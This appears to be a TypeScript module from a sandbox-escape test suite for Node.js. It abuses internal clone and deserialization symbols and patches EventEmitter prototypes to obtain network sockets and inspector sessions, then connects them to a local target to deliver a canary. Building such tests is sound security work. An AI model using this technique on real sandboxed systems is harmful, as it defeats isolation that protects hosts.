/**
 * Attacks by copies: an object of Node's own says by a method under a symbol of which module and class its copy is, and
 * Node loads that module and builds one. What is built is caught by the methods that its constructor calls.
 */
import { loose, pause, tryAll, withModules } from './attack.ts';
import type { Attack, Attempt, Loose } from './attack.ts';

export const attacksByClones: Readonly<Record<string, Attack>> = { 'cloned-objects': buildByCopying };

/** Classes whose constructors take nothing, and that lead to sockets. */
const classes = ['http:Agent', 'https:Agent', 'net:Socket', 'net:Server', 'inspector:Session'];

async function buildByCopying({ canary, target }: Attempt): Promise<void> {
  const built: Loose[] = [];
  await withModules('events', (events) => {
    catchIn(events['EventEmitter']?.prototype, built);
  });
  for (const copy of await copiers())
    for (const what of classes) {
      built.length = 0;
      await tryAll(() => copy(naming(what)));
      await pause(5);
      await useAll([...built], canary, target);
    }
  await pause(100);
}

async function useAll(built: readonly Loose[], canary: string, target: Attempt['target']): Promise<void> {
  const hear = (socket: unknown): unknown =>
    loose(loose(socket)['on']?.('error', () => undefined))['end']?.(canary);
  for (const one of new Set(built))
    for (const where of [{ path: target.socket }, { host: '127.0.0.1', port: target.tcp }])
      await tryAll(
        () => hear(one['createConnection']?.(where)),
        () => hear(loose(Reflect.construct(one['constructor'] ?? Object, []))['connect']?.(where)),
      );
}

// Constructors of emitters call these; the last is asked for by who builds a copy.
function catchIn(prototype: unknown, built: Loose[]): void {
  for (const name of ['on', 'once', 'setMaxListeners', symbolOf(Blob.prototype, 'deserialize')]) {
    const original: unknown = Reflect.get(Object(prototype), name);
    const value = function (this: unknown, ...values: readonly unknown[]): unknown {
      if (this !== process) built.push(loose(this));
      return typeof original === 'function' ? Reflect.apply(original, this, values) : undefined;
    };
    Object.defineProperty(Object(prototype), name, { value, configurable: true, writable: true });
  }
}

function naming(deserializeInfo: string): Blob {
  const blob = new Blob([]);
  const value = (): object => ({ data: {}, deserializeInfo });
  Object.defineProperty(blob, symbolOf(Blob.prototype, 'messaging_clone'), { value });
  return blob;
}

// Copied for whoever asks, for an entry of performance, and on the way from one port to the other.
async function copiers(): Promise<((value: Blob) => unknown)[]> {
  const found: ((value: Blob) => unknown)[] = [
    (value) => loose(globalThis)['structuredClone']?.(value),
    (value) => performance.mark('note', { detail: value }),
    (value) => performance.measure('note', { start: 0, end: 1, detail: value }),
  ];
  const movable: unknown[] = [new ReadableStream(), new WritableStream(), new AbortController().signal];
  await withModules('util', (util) => movable.push(loose(util['transferableAbortController']?.())['signal']));
  for (const each of movable)
    await tryAll(() => {
      const list: unknown = Reflect.get(Object(each), symbolOf(each, 'transfer_list'));
      const ports: unknown = typeof list === 'function' && Reflect.apply(list, each, []);
      for (const port of Array.isArray(ports) ? ports : [])
        found.push((value) => {
          for (const other of otherEnds(each)) Reflect.set(other, 'onmessage', () => undefined);
          return loose(port)['postMessage']?.(value);
        });
    });
  return found;
}

// The other end lies in the object's own state, under a symbol.
function otherEnds(owner: unknown): object[] {
  const symbols = Object.getOwnPropertySymbols(owner);
  const states = symbols.map((symbol) => Reflect.get(Object(owner), symbol) as unknown);
  const more = states.map((state) => loose(Object(state))['transfer']);
  return [...states, ...more].map((state): unknown => loose(Object(state))['port1']).filter(isOwner);
}

function symbolOf(owner: unknown, word: string): symbol {
  for (let at = owner; isOwner(at); at = Object.getPrototypeOf(at))
    for (const symbol of Object.getOwnPropertySymbols(at)) if (String(symbol).includes(word)) return symbol;
  return Symbol(word);
}

function isOwner(value: unknown): value is object {
  return typeof value === 'object' && value !== null;
}
